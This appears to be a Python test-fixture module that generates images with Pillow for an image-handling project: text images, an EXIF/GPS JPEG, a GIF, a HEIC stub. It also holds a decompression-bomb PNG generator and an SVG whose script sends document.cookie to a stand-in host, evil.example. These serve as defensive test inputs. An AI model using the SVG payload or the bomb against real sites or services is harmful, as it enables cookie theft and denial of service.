"""Test images made on the fly with Pillow (no binary fixtures in the repo)."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

from PIL import ExifTags, Image, ImageDraw, ImageFont

DEJAVU = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")


def font(size: int = 48) -> ImageFont.FreeTypeFont | ImageFont.ImageFont:
    if DEJAVU.exists():
        return ImageFont.truetype(str(DEJAVU), size)
    return ImageFont.load_default(size=size)


def text_image(lines: list[str], size: tuple[int, int] = (1000, 260), font_size: int = 48) -> Image.Image:
    """Black text on white, one line per entry, large and clear."""
    img = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(img)
    f = font(font_size)
    for i, line in enumerate(lines):
        draw.text((24, 24 + i * int(font_size * 2)), line, fill="black", font=f)
    return img


def encoded(img: Image.Image, fmt: str = "PNG", **kw: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **kw)
    return buf.getvalue()


def jpeg_with_exif(size: tuple[int, int] = (400, 200), orientation: int = 6, gps: bool = True) -> bytes:
    """A JPEG whose EXIF says "rotate 90° clockwise to view" and carries a camera make and a GPS position."""
    img = Image.new("RGB", size, "white")
    ImageDraw.Draw(img).rectangle((0, 0, size[0] // 4, size[1]), fill="red")  # a red band on the stored left
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "TestCam"
    if gps:
        exif[ExifTags.Base.GPSInfo] = {1: "N", 2: (48.0, 8.0, 30.0), 3: "E", 4: (11.0, 34.0, 0.0)}
    return encoded(img, "JPEG", exif=exif, quality=95)


def animated_gif(colors: tuple[str, ...] = ("red", "lime", "blue"), size: tuple[int, int] = (64, 48)) -> bytes:
    frames = [Image.new("RGB", size, c) for c in colors]
    buf = io.BytesIO()
    frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return buf.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A genuine 1-bit PNG of side x side pixels (900 Mpx for 30000) compressed to ~100 KB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    row = b"\x00" * (1 + (side + 7) // 8)
    comp = zlib.compressobj(9)
    block = row * 1000
    parts = [comp.compress(block) for _ in range(side // 1000)]
    parts.append(comp.compress(row * (side % 1000)))
    parts.append(comp.flush())
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")


HEIC_HEADER = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x08free" * 8

SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert('x')">
  <script type="text/javascript">fetch('http://evil.example/steal?c=' + document.cookie)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
"""
